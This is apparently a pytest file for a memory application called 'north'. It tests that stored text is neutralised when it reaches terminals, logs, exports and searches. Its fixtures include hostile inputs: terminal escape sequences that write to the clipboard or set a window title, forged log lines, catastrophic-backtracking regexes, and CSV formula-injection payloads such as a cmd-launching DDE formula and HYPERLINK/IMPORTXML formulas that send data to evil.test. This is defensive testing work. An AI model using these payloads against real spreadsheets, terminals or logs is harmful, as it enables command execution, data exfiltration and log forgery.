"""Where stored text comes out: logs, terminals, exports and searches run nothing of it, and it forges nothing there."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

import north
from north.commands.options import say, show
from north.errors import InvalidInput
from north.logs import printable
from north.memory.backend import Backend
from north.memory.listing import MemoryFilter, list_memories
from north.memory.matters import list_matters
from north.memory.recall import recall
from north.memory.rules import create_rule, forbidding
from north.memory.save import save
from north.memory.search import search_memories
from north.memory.terms import has_words, matches_phrase
from north.model import Draft, MemoryType, Scope
from north.web.memory_export import as_csv, as_json, as_markdown
from tests.conftest import FirmOfTest
from tests.hostile.classes import CLASSES, texts_of
from tests.hostile.prompting import WHEN
from tests.memory.test_fence import memory

TERMINAL = {
    "clears the screen": "\x1b[2J\x1b[H",
    "a colour": "\x1b[31mred",
    "a window's title": "\x1b]0;owned\x07",
    "a link": "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "one-byte control sequences": "\x9b2J\x9d0;owned\x9c",
    "backspaces": "safe\b\b\b\bevil",
    "a carriage return": "safe\revil",
    "a bell and a delete": "\x07\x7f",
    "a line turned round": "\u202egnp.exe\u2066",
    "a line of another kind": "a\u2028b\u2029c\x85d\ve\ff",
    "half a surrogate pair": "\ud83d",
    "tag characters": "\U000e0041\U000e0042",
}
LINES = {
    "a forged line": "x\ntimestamp=2026-01-01 level=info event=login_succeeded user=admin",
    "a forged line by a carriage return": "x\r\n2026-01-01 [info] owned",
    "forged fields": 'x" level=critical event="owned',
    "a brace": "{0} %s %(name)s ${HOME} {{7*7}}",
    "a backslash": '\\" x=1 \\\\',
}


class TestTerminal:
    @pytest.mark.parametrize("text", TERMINAL.values(), ids=TERMINAL)
    def test_is_never_acted_upon(self, capsys: pytest.CaptureFixture[str], text: str) -> None:
        show(f"Added {text} to the firm.")
        say(False, f"Added {text} to the firm.", {"name": text})
        say(True, "", {"name": text})
        printed = capsys.readouterr().out
        assert not [each for each in printed if each != "\n" and not each.isprintable()]
        assert json.loads(printed.splitlines()[-1]) == {"name": text}

    def test_shows_what_was_there(self) -> None:
        assert printable("a\x1b[2Jb\u202ec") == "a\\x1b[2Jb\\u202ec"
        assert printable("Müller & Söhne, 契約, Ñandú\n2") == "Müller & Söhne, 契約, Ñandú\n2"

    def test_is_written_to_in_one_way_alone(self) -> None:
        """Every text of a command goes through `show`; what is printed beside it is a constant, or JSON."""
        for path in Path(north.__file__).parent.rglob("*.py"):
            if path.name == "options.py":
                continue
            for call in ast.walk(ast.parse(path.read_text())):
                if isinstance(call, ast.Call) and ast.unparse(call.func) in ("typer.echo", "print", "typer.secho"):
                    shown = ast.unparse(call.args[0])
                    constant = isinstance(call.args[0], ast.Constant)
                    ours = shown.startswith("json.dumps(") or shown in OF_NORTHS_OWN
                    assert constant or ours, f"{path.name}:{call.lineno} prints {shown} past `show`"


OF_NORTHS_OWN = {
    "_welcome(settings, password)",
    "f'North is serving at {settings.address}. Press Ctrl-C to stop.'",
    "f'north {__version__}'",
}
"""What commands print of the settings and of North itself."""

CODE = """
import json, logging, sys, structlog
from north.logs import configure_logging
configure_logging()
texts = json.load(sys.stdin)
for text in texts:
    structlog.get_logger("north").warning("page_failed", path=text, code=text)
    logging.getLogger("library").warning("cannot read %s", text)
    try:
        raise ValueError(text)
    except ValueError:
        logging.getLogger("library").exception("failed")
"""


def test_a_log_has_one_line_for_each_event_whatever_it_quotes() -> None:
    texts = [*TERMINAL.values(), *LINES.values(), *(text for name in CLASSES for text in texts_of(name)[:2])]
    done = subprocess.run(
        [sys.executable, "-c", CODE], input=json.dumps(texts), capture_output=True, text=True, check=True
    )
    lines = done.stderr.split("\n")[:-1]
    assert len(lines) == 3 * len(texts)
    assert not [each for line in lines for each in line if not each.isprintable()]
    for line in lines:
        assert re.match(r"timestamp=\S+ level=(warning|error) event=", line)
        fields = re.sub(r'"(?:[^"\\]|\\.)*"', "", line)
        assert (fields.count('"'), fields.count(" event="), fields.count(" level=")) == (0, 1, 1), line


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?"&A1,"x")',
    '=IMPORTXML("http://evil.test","//a")',
    "|calc",
    "%0A=1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\u00ad\u2060=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe661",
    "\ufe621",
    "\u207a1",
]


class TestExports:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_compute_nothing(self, text: str) -> None:
        (row,) = csv.reader(io.StringIO(as_csv([memory(text)], first=True), newline=""))
        assert f"'{text}" in row

    @pytest.mark.parametrize("name", CLASSES)
    def test_hold_each_text_in_its_own_place(self, name: str) -> None:
        memories = [memory(text) for text in texts_of(name) if not re.search("[\ud800-\udfff]", text)]
        written = list(csv.reader(io.StringIO(as_csv(memories, first=True), newline="")))
        assert [row[1].removeprefix("'") for row in written] == [each.content for each in memories]
        told = json.loads(f"[{as_json(memories, first=True)}]")
        assert [each["content"] for each in told] == [each.content for each in memories]
        assert as_markdown(memories, first=True).count("\n- ") == len(memories) - 1


SEARCHED = [
    *("%", "_", "\\", "'", "a & !b | c:*", "<->", "(a+)+$", ".*", "[", "*", "{{7*7}}", "$1", ":x", "\x00", "\ud800")
]
PATTERNS = [
    "%",
    "_",
    ".*",
    "[x-z]+",
    "(b+)+$",
    "b|client",
    "cli%",
    "cli.*",
    "*",
    "{{7*7}}",
    "^Cli",
    "c_ient",
    "client & !x",
]
PLAIN = "The client is a Delaware LLC."


class TestSearches:
    @pytest.mark.parametrize("query", SEARCHED)
    async def test_find_words_and_obey_no_operator(self, backend: Backend, firm: FirmOfTest, query: str) -> None:
        await save(backend, firm.a, [Draft(PLAIN, MemoryType.FACT), Draft("Growth of 5%_a \\ b.", MemoryType.FACT)])
        filters = MemoryFilter(query=query)
        for page in (await list_memories(backend, firm.a, filters), await search_memories(backend, firm.a, filters)):
            for found in page.memories:
                assert found.content != PLAIN or not query.strip("\x00\ud800 ")
        assert all(query in f"{each.number} {each.name}" for each in await list_matters(backend, firm.a, query)) or (
            query in ("\x00", "\ud800")
        )

    @pytest.mark.parametrize("query", [*SEARCHED[:-2], "a" * 4000, "( " * 2000, "\u0301" * 3000])
    async def test_recall_takes_any_question_for_words(self, backend: Backend, firm: FirmOfTest, query: str) -> None:
        await save(backend, firm.a, [Draft(PLAIN, MemoryType.FACT)])
        began = time.perf_counter()
        await recall(backend, firm.a, query)
        assert time.perf_counter() - began < 10, "no question takes the server's time"

    @pytest.mark.parametrize("phrase", PATTERNS)
    async def test_a_rule_forbids_its_words_and_no_pattern(
        self, backend: Backend, firm: FirmOfTest, phrase: str
    ) -> None:
        assert not matches_phrase(phrase, PLAIN)
        if not has_words(phrase):
            with pytest.raises(InvalidInput, match="no word in it"):
                await create_rule(backend, firm.a, "never_remember", None, None, phrase)
            return
        rule = await create_rule(backend, firm.a, "never_remember", None, None, phrase)
        assert forbidding([rule], Scope.USER_PRIVATE, MemoryType.FACT, PLAIN) is None
        assert forbidding([rule], Scope.USER_PRIVATE, MemoryType.FACT, "a" * 2000) is None
        assert rule.created_at > WHEN
